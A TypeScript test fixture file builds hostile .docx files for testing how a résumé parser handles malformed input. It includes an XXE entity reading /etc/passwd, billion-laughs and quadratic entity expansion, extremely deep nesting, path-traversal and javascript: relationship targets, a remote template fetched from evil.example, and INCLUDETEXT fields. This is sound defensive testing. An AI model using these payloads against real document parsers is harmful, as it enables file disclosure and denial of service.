// Word documents whose XML is deep, looping, forbidden or strange.

import { docxOf, part, resumeBody } from './hostile-docx.ts'
import type { HostileFile } from './hostile-file.ts'
import { documentXml, docx, paragraph, wordSpace } from './write-docx.ts'

const heavy: HostileFile['ends'] = ['zip_bomb', 'too_much_text', 'timeout', 'out_of_memory']
const nest = (open: string, close: string, depth: number, inner: string) =>
  open.repeat(depth) + inner + close.repeat(depth)

export const docxFiles: HostileFile[] = [
  docxOf('main part is empty', () => docx(''), ['corrupt', 'empty', 'no_text']),
  docxOf('main part is not XML', () => docx('{"a": 1}'), ['corrupt', 'empty', 'no_text']),
  docxOf('main part is cut', () => docx(documentXml(resumeBody).slice(0, 700)), ['corrupt', 'read']),
  docxOf('main part is noise', () => docx(Uint8Array.from({ length: 9000 }, (_, i) => (i * 7919) & 255)), [
    'corrupt',
    'empty',
    'no_text',
    'read',
  ]),
  docxOf(
    'main part in UTF-16',
    () => docx(new Uint8Array(Buffer.from(`\ufeff${documentXml(resumeBody).replace('UTF-8', 'UTF-16')}`, 'utf16le'))),
    ['read', 'corrupt'],
  ),
  docxOf('byte order mark', () => docx(`\ufeff${documentXml(resumeBody)}`), ['read']),
  docxOf('no text', () => docx(documentXml('<w:p/><w:p><w:r><w:tab/></w:r></w:p>')), ['empty', 'no_text']),
  docxOf(
    'external entity',
    () =>
      docx(
        documentXml(
          paragraph('A person &secret;').replace('&amp;', '&') + resumeBody,
          '<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        ),
      ),
    ['read', 'corrupt'],
  ),
  docxOf('billion laughs', () => {
    const levels = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
    return docx(
      documentXml(
        paragraph('A person').replace('A person', '&l12;') + resumeBody,
        `<!DOCTYPE d [<!ENTITY l0 "ha">${levels}]>`,
      ),
    )
  }, ['read', 'corrupt', 'zip_bomb', 'too_much_text']),
  docxOf(
    'quadratic entity',
    () =>
      docx(
        documentXml(
          `<w:p><w:r><w:t>${'&x;'.repeat(50_000)}</w:t></w:r></w:p>`,
          `<!DOCTYPE d [<!ENTITY x "${'x'.repeat(50_000)}">]>`,
        ),
      ),
    ['read', 'corrupt', 'zip_bomb', 'too_much_text', 'empty'],
  ),
  docxOf(
    'tags 100,000 deep',
    () => docx(documentXml(nest('<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>', 50_000, resumeBody))),
    ['read', 'corrupt', 'too_much_text', 'timeout'],
  ),
  docxOf(
    'tables 500 deep',
    () => docx(documentXml(nest('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 500, resumeBody))),
    ['read', 'corrupt'],
  ),
  docxOf(
    'tables 30,000 deep',
    () => docx(documentXml(nest('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 30_000, resumeBody))),
    ['read', 'corrupt', 'too_much_text', 'timeout'],
  ),
  docxOf(
    'text boxes 200 deep',
    () =>
      docx(
        documentXml(
          nest('<w:p><w:r><w:pict><w:txbxContent>', '</w:txbxContent></w:pict></w:r></w:p>', 200, resumeBody),
        ),
      ),
    ['read', 'corrupt'],
  ),
  docxOf(
    'alternate content 2,000 deep',
    () =>
      docx(
        documentXml(
          `<w:p><w:r>${nest('<mc:AlternateContent><mc:Choice>', '</mc:Choice><mc:Fallback/></mc:AlternateContent>', 2000, '<w:t>A person</w:t>')}</w:r></w:p>${resumeBody}`,
        ),
      ),
    ['read', 'corrupt'],
  ),
  docxOf('tags that never close', () => docx(documentXml('<w:p><w:r><w:t>'.repeat(20_000) + resumeBody)), [
    'read',
    'corrupt',
    'too_much_text',
  ]),
  docxOf(
    'a table of 200 × 2,000 empty cells',
    () =>
      docx(
        documentXml(
          `${`<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(200)}</w:tr>`.repeat(2000)}</w:tbl>`}${resumeBody}`,
        ),
      ),
    ['read', 'too_much_text', 'timeout', 'zip_bomb'],
  ),
  docxOf(
    'one tag with 100,000 attributes',
    () => docx(documentXml(`<w:p ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>${resumeBody}`)),
    ['read', 'corrupt', 'timeout'],
  ),
  docxOf('one word of five megabytes', () => docx(documentXml(paragraph('w'.repeat(5_000_000)))), ['too_much_text']),
  docxOf('half a million paragraphs', () => docx(documentXml(paragraph('word').repeat(500_000))), heavy),
  docxOf(
    'styles that are based on each other',
    () =>
      docx(documentXml(paragraph('A person', '<w:pPr><w:pStyle w:val="A"/></w:pPr>') + resumeBody), [
        part(
          'word/styles.xml',
          `<w:styles ${wordSpace}><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>`,
        ),
      ]),
    ['read'],
  ),
  docxOf(
    'styles and relations that are noise',
    () =>
      docx(documentXml(resumeBody), [
        part('word/styles.xml', '<<<>>>&&&'),
        part('word/numbering.xml', '<w:numbering'),
        part('word/_rels/document.xml.rels', '<a b=">'),
      ]),
    ['read', 'corrupt'],
  ),
  docxOf(
    'relations to evil places',
    () =>
      docx(documentXml(resumeBody), [
        part(
          'word/_rels/document.xml.rels',
          '<Relationships><Relationship Id="r1" Type="x/header" Target="../../../../etc/passwd"/><Relationship Id="r2" Type="x/hyperlink" TargetMode="External" Target="javascript:alert(1)"/><Relationship Id="r3" Type="x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>',
        ),
      ]),
    ['read'],
  ),
  docxOf(
    'prototype names as styles',
    () =>
      docx(
        documentXml(
          ['__proto__', 'constructor', 'toString', 'hasOwnProperty']
            .map((id) => paragraph('A person', `<w:pPr><w:pStyle w:val="${id}"/></w:pPr>`))
            .join('') + resumeBody,
        ),
      ),
    ['read'],
  ),
  docxOf(
    'emoji, right-to-left and combining signs',
    () =>
      docx(
        documentXml(
          resumeBody +
            ['👩🏽‍🔬 نادية فيروتشي', 'נדיה פרוצ׳י', 'Z̷̧͓͈̣a̶l̵g̸o̷'.repeat(50), '\u202egro.elpmaxe@rorrim\u202c']
              .map((line) => paragraph(line))
              .join(''),
        ),
      ),
    ['read'],
  ),
  docxOf(
    'characters XML forbids',
    () => docx(documentXml(`${resumeBody}<w:p><w:r><w:t>a&#0;b&#xD800;c&#x110000;d\u0000e\u0001f</w:t></w:r></w:p>`)),
    ['read', 'corrupt'],
  ),
  docxOf(
    'all text hidden',
    () => docx(documentXml(resumeBody.replaceAll('<w:r>', '<w:r><w:rPr><w:vanish/></w:rPr>'))),
    ['read', 'empty', 'no_text'],
  ),
  docxOf(
    'fields that nest',
    () =>
      docx(
        documentXml(
          `<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r>'.repeat(3000)}</w:p>${resumeBody}`,
        ),
      ),
    ['read'],
  ),
]
